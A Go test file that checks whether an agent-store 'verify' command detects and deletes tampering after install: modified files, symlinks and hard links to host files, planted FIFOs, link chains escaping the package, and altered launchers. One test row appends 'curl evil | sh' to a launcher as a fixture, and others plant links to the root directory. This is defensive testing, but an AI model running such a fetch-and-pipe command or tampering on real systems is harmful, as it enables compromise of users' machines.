package agents

// `agents verify` catches a store changed after install, as a class (issue 29, point 5): each
// row changes one thing after a clean install of a package with inside links, and Verify must
// delete and name what changed, within a bound (a planted FIFO must not hang it), without
// following anything to the host. The control is the untouched store, verifying clean.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// verifyWithin runs Verify and fails the test if it has not returned within d.
func verifyWithin(t *testing.T, s *Store, d time.Duration) ([]string, string, error) {
	t.Helper()
	type result struct {
		del []string
		err error
	}
	var progress bytes.Buffer
	done := make(chan result, 1)
	go func() {
		del, err := s.Verify(context.Background(), &progress)
		done <- result{del, err}
	}()
	select {
	case r := <-done:
		return r.del, progress.String(), r.err
	case <-time.After(d):
		t.Fatalf("Verify did not return within %s: it blocked on something in the store", d)
		return nil, "", nil
	}
}

// installedWithLinks installs the test agent from a package holding insideLinks and returns the
// store, $CORRAL_HOME and the outside directory of hostDir.
func installedWithLinks(t *testing.T) (*Store, string, string) {
	t.Helper()
	reg, s, home := fixture(t, old)
	publishAgent(t, reg, append([]tarEntry{{Name: "package/bin/agent.js", Data: "console.log('agent')\n", Mode: 0o755}}, insideLinks...))
	if _, err := s.Ensure(context.Background(), testAgent, "", nil); err != nil {
		t.Fatal(err)
	}
	return s, home, hostDir(t)
}

// keepTimes gives p the mtime it had, so only a hash, a type or a link count can tell.
func keepTimes(t *testing.T, p string, change func()) {
	t.Helper()
	fi, err := os.Lstat(p)
	if err != nil {
		t.Fatal(err)
	}
	change()
	os.Chtimes(p, fi.ModTime(), fi.ModTime())
}

// copyTree copies dir to a new directory outside the store, links as links, and returns it.
func copyTree(t *testing.T, dir string) string {
	t.Helper()
	dst := filepath.Join(t.TempDir(), "copy")
	if err := os.CopyFS(dst, os.DirFS(dir)); err != nil {
		t.Fatal(err)
	}
	return dst
}

// addToManifest records extra entries in an entry's manifest as if they had been installed
// (what an older git corral wrote for a chain its per-link check let through).
func addToManifest(t *testing.T, entry string, extra ...manifestEntry) {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(entry, manifestName))
	if err != nil {
		t.Fatal(err)
	}
	var m manifest
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	m.Files = append(m.Files, extra...)
	data, _ = json.MarshalIndent(m, "", "  ")
	if err := os.WriteFile(filepath.Join(entry, manifestName), data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestVerifyCatchesChangedStore(t *testing.T) {
	rows := []struct {
		name   string
		change func(t *testing.T, store, entry, pkg, host string)
		want   string // in the result
		reason string // in the progress
	}{
		{"a byte changed, size and mtime kept", func(t *testing.T, store, entry, pkg, host string) {
			p := filepath.Join(pkg, "src", "a", "b.js")
			keepTimes(t, p, func() { os.WriteFile(p, []byte("c\n"), 0o644) })
		}, "codex@1.0.0", `"node_modules/@example/agent/src/a/b.js" changed`},
		{"a file replaced by a link to a host file with its content", func(t *testing.T, store, entry, pkg, host string) {
			os.WriteFile(filepath.Join(host, "b.js"), []byte("b\n"), 0o644)
			p := filepath.Join(pkg, "src", "a", "b.js")
			os.Remove(p)
			os.Symlink(filepath.Join(host, "b.js"), p)
		}, "codex@1.0.0", `src/a/b.js" changed`},
		{"a file replaced by a hard link to a host file with its content, mode and mtime", func(t *testing.T, store, entry, pkg, host string) {
			p := filepath.Join(pkg, "src", "a", "b.js")
			fi, _ := os.Stat(p)
			os.Remove(p)
			outside := filepath.Join(host, "b-hard.js")
			os.WriteFile(outside, []byte("b\n"), fi.Mode().Perm())
			os.Chtimes(outside, fi.ModTime(), fi.ModTime())
			if err := os.Link(outside, p); err != nil {
				t.Fatal(err)
			}
		}, "codex@1.0.0", "shares its data with a file outside"},
		{"a link retargeted inside", func(t *testing.T, store, entry, pkg, host string) {
			p := filepath.Join(pkg, "node_modules", ".bin", "x")
			os.Remove(p)
			os.Symlink("../../src/a/b.js", p)
		}, "codex@1.0.0", `node_modules/.bin/x" changed`},
		{"a link retargeted to the host", func(t *testing.T, store, entry, pkg, host string) {
			p := filepath.Join(pkg, "alias")
			os.Remove(p)
			os.Symlink(host, p)
		}, "codex@1.0.0", `alias" changed`},
		{"a link added", func(t *testing.T, store, entry, pkg, host string) {
			os.Symlink("src", filepath.Join(pkg, "more"))
		}, "codex@1.0.0", `"node_modules/@example/agent/more" is not in the manifest`},
		{"a file added", func(t *testing.T, store, entry, pkg, host string) {
			os.WriteFile(filepath.Join(pkg, "bin", "extra.js"), []byte("planted"), 0o644)
		}, "codex@1.0.0", `bin/extra.js" is not in the manifest`},
		{"a file removed", func(t *testing.T, store, entry, pkg, host string) {
			os.Remove(filepath.Join(pkg, "src", "a", "b.js"))
		}, "codex@1.0.0", `src/a/b.js" is missing`},
		{"a FIFO planted", func(t *testing.T, store, entry, pkg, host string) {
			syscall.Mkfifo(filepath.Join(pkg, "bin", "fifo"), 0o644)
		}, "codex@1.0.0", `bin/fifo" is a FIFO`},
		{"a file's mode changed", func(t *testing.T, store, entry, pkg, host string) {
			os.Chmod(filepath.Join(pkg, "src", "a", "b.js"), 0o666)
		}, "codex@1.0.0", `src/a/b.js" changed`},
		{"the entry's own directory made writable", func(t *testing.T, store, entry, pkg, host string) {
			os.Chmod(entry, 0o777)
		}, "codex@1.0.0", `"." changed`},
		{"a directory replaced by a link to a copy", func(t *testing.T, store, entry, pkg, host string) {
			p := filepath.Join(pkg, "src")
			c := copyTree(t, p)
			os.RemoveAll(p)
			os.Symlink(c, p)
		}, "codex@1.0.0", `src" changed`},
		{"the manifest replaced by a link to a copy of it", func(t *testing.T, store, entry, pkg, host string) {
			data, _ := os.ReadFile(filepath.Join(entry, manifestName))
			os.WriteFile(filepath.Join(host, manifestName), data, 0o644)
			os.Remove(filepath.Join(entry, manifestName))
			os.Symlink(filepath.Join(host, manifestName), filepath.Join(entry, manifestName))
		}, "codex@1.0.0", "manifest.json\" is a symbolic link, not a regular file"},
		{"the manifest replaced by a FIFO", func(t *testing.T, store, entry, pkg, host string) {
			os.Remove(filepath.Join(entry, manifestName))
			syscall.Mkfifo(filepath.Join(entry, manifestName), 0o644)
		}, "codex@1.0.0", "manifest.json\" is a FIFO, not a regular file"},
		{"the entry replaced by a link to a copy of it", func(t *testing.T, store, entry, pkg, host string) {
			c := copyTree(t, entry)
			os.RemoveAll(entry)
			os.Symlink(c, entry)
		}, "codex/1.0.0", "a L--------- that is no store entry"},
		{"the agent's directory replaced by a link to a copy of it", func(t *testing.T, store, entry, pkg, host string) {
			d := filepath.Dir(entry)
			c := copyTree(t, d)
			os.RemoveAll(d)
			os.Symlink(c, d)
		}, "codex", "codex: a L---------, not a directory"},
		{"a chain of links the manifest records (an entry an older git corral installed)", func(t *testing.T, store, entry, pkg, host string) {
			var extra []manifestEntry
			for _, e := range climb("") {
				os.Symlink(e.Link, filepath.Join(pkg, e.Name))
				extra = append(extra, manifestEntry{Path: "node_modules/@example/agent/" + e.Name, Mode: fs.ModeSymlink | 0o777, Link: e.Link})
			}
			os.Symlink(viaClimb(host), filepath.Join(pkg, "hostdir"))
			extra = append(extra, manifestEntry{Path: "node_modules/@example/agent/hostdir", Mode: fs.ModeSymlink | 0o777, Link: viaClimb(host)})
			addToManifest(t, entry, extra...)
		}, "codex@1.0.0", `link "e" -> "d/..", "d" -> ".": resolves outside the package`},
		{"the launcher changed", func(t *testing.T, store, entry, pkg, host string) {
			f, _ := os.OpenFile(filepath.Join(store, "bin", "codex"), os.O_APPEND|os.O_WRONLY, 0)
			f.WriteString("curl evil | sh\n")
			f.Close()
		}, "bin/codex", "its content is not the launcher of codex 1.0.0"},
		{"the launcher replaced by a link", func(t *testing.T, store, entry, pkg, host string) {
			os.WriteFile(filepath.Join(host, "launcher"), []byte("#!/bin/sh\n"), 0o755)
			os.Remove(filepath.Join(store, "bin", "codex"))
			os.Symlink(filepath.Join(host, "launcher"), filepath.Join(store, "bin", "codex"))
		}, "bin/codex", `"bin/codex" is a symbolic link, not a regular file`},
		{"the launcher's mode changed", func(t *testing.T, store, entry, pkg, host string) {
			os.Chmod(filepath.Join(store, "bin", "codex"), 0o777)
		}, "bin/codex", "mode 0777, not 0755"},
		{"the launcher's version link retargeted", func(t *testing.T, store, entry, pkg, host string) {
			os.Remove(filepath.Join(store, "bin", "codex.version"))
			os.Symlink("../../..", filepath.Join(store, "bin", "codex.version"))
		}, "bin/codex", `codex.version names "../../..", not a version`},
		{"a file planted in bin", func(t *testing.T, store, entry, pkg, host string) {
			os.WriteFile(filepath.Join(store, "bin", "gemini"), []byte("#!/bin/sh\n"), 0o755)
		}, "bin/gemini", "no launcher git corral writes"},
		{"a link planted at the top of the store", func(t *testing.T, store, entry, pkg, host string) {
			os.Symlink("/", filepath.Join(store, "root"))
		}, "root", "git corral puts no such thing in the store"},
		{"a link planted among the versions", func(t *testing.T, store, entry, pkg, host string) {
			os.Symlink("1.0.0", filepath.Join(filepath.Dir(entry), "9.9.9"))
		}, "codex/9.9.9", "no store entry"},
	}
	t.Run("control: the untouched store verifies clean", func(t *testing.T) {
		s, _, _ := installedWithLinks(t)
		if del, progress, err := verifyWithin(t, s, time.Minute); err != nil || len(del) != 0 {
			t.Fatalf("Verify deleted %v, %v\n%s", del, err, progress)
		}
		if del, progress, err := verifyWithin(t, s, time.Minute); err != nil || len(del) != 0 {
			t.Fatalf("a second Verify deleted %v, %v\n%s", del, err, progress)
		}
	})
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			s, home, host := installedWithLinks(t)
			store := StoreDir(home)
			entry := filepath.Join(store, "codex", "1.0.0")
			r.change(t, store, entry, agentEntry(home), host)
			before := snapshot(t, host)
			del, progress, err := verifyWithin(t, s, 30*time.Second)
			if err != nil {
				t.Fatalf("Verify: %v\n%s", err, progress)
			}
			if !slices.Contains(del, r.want) {
				t.Errorf("Verify deleted %v, want %q among them\n%s", del, r.want, progress)
			}
			if !strings.Contains(progress, r.reason) {
				t.Errorf("Verify's reasons do not say %q:\n%s", r.reason, progress)
			}
			if after := snapshot(t, host); after != before {
				t.Errorf("Verify changed the host directory:\n%s\nwas\n%s", after, before)
			}
			if del, progress, err := verifyWithin(t, s, 30*time.Second); err != nil || len(del) != 0 {
				t.Errorf("after deleting, a second Verify deleted %v, %v\n%s", del, err, progress)
			}
		})
	}
}

// snapshot lists dir's names, types and contents (regular files), so a test can see it unchanged.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fmt.Fprintf(&b, "%s %v", p, d.Type())
		if d.Type().IsRegular() {
			data, _ := os.ReadFile(p)
			fmt.Fprintf(&b, " %q", data)
		}
		b.WriteString("\n")
		return nil
	})
	return b.String()
}

// TestEnsureRebuildsChangedEntry: a session's Ensure (the fast check) also refuses an entry
// that a chain was added to with its manifest, and an agent directory replaced by a link: it
// deletes (never follows) and builds the entry again; the rebuilt entry verifies clean.
func TestEnsureRebuildsChangedEntry(t *testing.T) {
	for _, name := range []string{"chain in the manifest", "agent directory is a link"} {
		t.Run(name, func(t *testing.T) {
			s, home, _ := installedWithLinks(t)
			entry := filepath.Join(StoreDir(home), "codex", "1.0.0")
			copied := ""
			if name == "chain in the manifest" {
				pkg := agentEntry(home)
				var extra []manifestEntry
				for _, e := range climb("") {
					os.Symlink(e.Link, filepath.Join(pkg, e.Name))
					extra = append(extra, manifestEntry{Path: "node_modules/@example/agent/" + e.Name, Mode: fs.ModeSymlink | 0o777, Link: e.Link})
				}
				addToManifest(t, entry, extra...)
			} else {
				copied = copyTree(t, filepath.Dir(entry))
				os.RemoveAll(filepath.Dir(entry))
				os.Symlink(copied, filepath.Dir(entry))
			}
			var progress bytes.Buffer
			if _, err := s.Ensure(context.Background(), testAgent, "", &progress); err != nil {
				t.Fatalf("Ensure: %v\n%s", err, progress.String())
			}
			if !strings.Contains(progress.String(), "does not match its manifest") && !strings.Contains(progress.String(), "not a directory: removing it") {
				t.Errorf("the change was not reported: %s", progress.String())
			}
			if fi, err := os.Lstat(filepath.Dir(entry)); err != nil || !fi.IsDir() {
				t.Errorf("store/codex is %v, %v; want a directory", fi, err)
			}
			if copied != "" {
				if _, err := os.Stat(filepath.Join(copied, "1.0.0", manifestName)); err != nil {
					t.Errorf("the copy the link pointed at was touched: %v", err)
				}
			}
			if del, p, err := verifyWithin(t, s, time.Minute); err != nil || len(del) != 0 {
				t.Errorf("after the rebuild Verify deleted %v, %v\n%s", del, err, p)
			}
		})
	}
}
